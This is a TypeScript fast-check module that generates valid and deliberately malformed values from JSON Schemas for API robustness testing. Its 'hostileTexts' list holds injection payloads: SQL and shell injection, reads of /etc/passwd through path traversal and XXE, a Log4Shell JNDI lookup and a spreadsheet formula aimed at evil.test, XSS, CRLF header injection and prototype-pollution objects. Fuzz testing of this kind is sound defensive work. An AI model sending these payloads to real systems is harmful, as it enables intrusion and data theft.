/** Valid and invalid values for a JSON Schema, for calls that no honest client makes. */
import fc from 'fast-check';

export interface Schema {
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly allOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly format?: string;
  readonly pattern?: string;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly minItems?: number;
  readonly maxItems?: number;
  readonly minimum?: number;
  readonly maximum?: number;
}

/** Existing values that mean something to the API. */
export interface Known {
  readonly ids: readonly string[];
  readonly numbers: readonly number[];
  readonly emails: readonly string[];
  /** Valid values by property name where a schema cannot express them: a NIP, an amount. */
  readonly named: Readonly<Record<string, readonly unknown[]>>;
}

/** Texts that have broken programs: databases, shells, pages, encodings and numbers. */
const hostileTexts = [
  '',
  ' ',
  "' OR '1'='1",
  "'); DROP TABLE wallet; --",
  '%',
  '_'.repeat(200),
  '\\',
  '"; cat /etc/passwd',
  '$(id)',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udc00a',
  'a\ufdd0\uffff',
  '\u202egnp.exe',
  '\u2066a\u2069\u202c',
  '\ufeff1',
  '\u00a01\u2003',
  'ａｄｍｉｎ',
  'аdmin',
  '1\u0335\u0336\u0337',
  '*)(uid=*))(|(uid=*',
  '=HYPERLINK("http://evil.test","x")',
  '＝1+1',
  '{"$gt":""}',
  '[$ne]',
  ['$', '{jndi:ldap://evil.test/a}'].join(''),
  '%0d%0aSet-Cookie:%20a=b',
  '..%2f..%2fetc%2fpasswd',
  'C:\\\\windows\\win.ini',
  'file:///etc/passwd',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '1; SELECT pg_sleep(10)--',
  "' || (SELECT version()) || '",
  "\\'; --",
  'a\tb\vc\fd\u0085e\u2028f',
  '\u200b\u200d',
  'ﷺ'.repeat(50),
  'İstanbul',
  'ß',
  'e\u0301'.repeat(300),
  '😀'.repeat(500),
  'A'.repeat(10_000),
  '\r\nSet-Cookie: a=b',
  'NaN',
  'Infinity',
  '-0',
  '1e3',
  '0x10',
  '١٢٣',
  '9007199254740993',
  '-1',
  '0.001',
  '1000000.01',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  '0001-01-01',
  '+275760-09-13T00:00:00Z',
  '2026-02-30',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
];

const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

const hostileNumber = fc.constantFrom(
  0,
  -0,
  -1,
  0.001,
  0.005,
  1e3,
  1e12,
  1e308,
  -1e308,
  5e-324,
  2 ** 31,
  2 ** 53,
  -(2 ** 63),
);

const nested = (depth: number): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
};

/** Anything but a valid value. */
export const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null]) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 30 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 1, arbitrary: fc.constantFrom(40, 400).map(nested) },
  {
    weight: 1,
    arbitrary: hostileText.map((text) =>
      JSON.parse(`{"__proto__":{"isAdmin":true},"constructor":${JSON.stringify(text)}}`),
    ),
  },
);

function textOf(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const { minLength = 0, maxLength = 40, pattern, format } = schema;
  const text = fc.string({ minLength, maxLength: Math.max(minLength, Math.min(maxLength, 60)) });
  if (format === 'uuid') return fc.oneof(fc.constantFrom(...known.ids), fc.uuid());
  if (format === 'email') return fc.constantFrom(...known.emails);
  if (format === 'date') return fc.constantFrom('2026-11-01', '2026-11-21', '2099-12-31');
  if (format === 'date-time') return fc.constant('2026-11-21T12:00:00.000Z');
  if (format === 'uri') return fc.webUrl({ validSchemes: ['https'] });
  if (pattern === undefined) return fc.oneof(text, fc.constantFrom(...known.ids, ...known.emails));
  return fc.stringMatching(new RegExp(pattern, 'u'));
}

/** Valid values for a property or a parameter of this name. */
export function fittingNamed(name: string, schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const values = known.named[name];
  const byShape = fitting(schema, known);
  if (!values) return byShape;
  return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...values) }, byShape);
}

/** Values that conform to the schema, as far as a schema can express it. */
export function fitting(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((choice) => fitting(choice, known)));
  if (schema.allOf?.[0]) return fitting(schema.allOf[0], known);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case 'string':
      return textOf(schema, known);
    case 'integer':
    case 'number': {
      const min = Math.max(schema.minimum ?? 0, -1000);
      const whole = fc.integer({ min, max: Math.max(min, Math.min(schema.maximum ?? 1000, 1000)) });
      return fc.oneof(whole, fc.constantFrom(...known.numbers));
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(fitting(schema.items ?? {}, known), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, 3),
      });
    case 'object': {
      const requiredKeys = [...(schema.required ?? [])];
      return fc.record(
        Object.fromEntries(
          Object.entries(schema.properties ?? {}).map(([name, one]) => [
            name,
            fittingNamed(name, one, known),
          ]),
        ),
        { requiredKeys },
      );
    }
    default:
      return fc.oneof(hostileText, fc.integer({ min: 0, max: 1000 }).map(String));
  }
}

/** A valid value with a part removed, replaced or added, or another value altogether. */
export function spoilt(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const whole = fitting(schema, known);
  const names = Object.keys(schema.properties ?? {});
  if (names.length === 0) return fc.oneof(whole, hostile);
  const name = fc.constantFrom(...names);
  const changed = (
    change: (value: Record<string, unknown>, name: string, other: unknown) => void,
  ) =>
    fc.tuple(whole, name, hostile).map(([value, at, other]) => {
      const copy = { ...(value as Record<string, unknown>) };
      change(copy, at, other);
      return copy;
    });
  return fc.oneof(
    { weight: 6, arbitrary: whole },
    {
      weight: 4,
      arbitrary: changed((value, at, other) => {
        value[at] = other;
      }),
    },
    {
      weight: 1,
      arbitrary: changed((value, at) => {
        delete value[at];
      }),
    },
    {
      weight: 1,
      arbitrary: changed((value, at, other) => {
        value[`${at}_`] = other;
        value.isAdmin = true;
      }),
    },
    { weight: 1, arbitrary: hostile },
  );
}
